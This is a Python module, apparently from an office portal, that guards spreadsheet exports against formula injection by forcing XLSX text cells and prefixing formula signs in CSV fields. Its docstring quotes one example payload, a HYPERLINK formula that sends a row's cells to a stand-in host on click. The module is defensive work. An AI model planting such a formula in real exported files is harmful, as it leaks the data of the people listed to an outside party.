"""What every spreadsheet the portal writes does to text, so none runs as a formula.

A name, a jabatan or an event title is typed by someone outside the office; in a
spreadsheet "=HYPERLINK("http://x/?"&B8&C8,"klik")" is a link that sends the row's
data away on a click. Two ways in, two guards:

- XLSX (openpyxl): a string starting with "=" becomes a formula cell. `text_cell`
  writes every text as a text cell (data type "s"), whatever it starts with.
- CSV: the file holds no types; the spreadsheet reads a field starting with = + - @
  (or a tab, a carriage return) as a formula, and a person may open the ";" file
  with another separator, so a field is split wherever "," ";" "|" a tab or a line
  break stands. `csv_text` puts a "'" before the formula sign at the start of the
  field and of every piece such a split could start.
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# A separator a spreadsheet could split at, then what it may trim (spaces, a quote),
# then a formula sign.
SPLIT_THEN_FORMULA = re.compile(r"""([,;|\t\r\n])([ \t"]*)([=+\-@])""")


def text_cell(cell, value: str) -> None:
    """Write `value` into an openpyxl cell as text, never as a formula."""
    cell.value = value
    cell.data_type = "s"


def csv_text(value):
    """`value` as a CSV field no spreadsheet runs, however it splits it; non-text as is."""
    if not isinstance(value, str):
        return value
    value = SPLIT_THEN_FORMULA.sub(r"\1\2'\3", value)
    if value.startswith(FORMULA_START):
        value = "'" + value
    return value
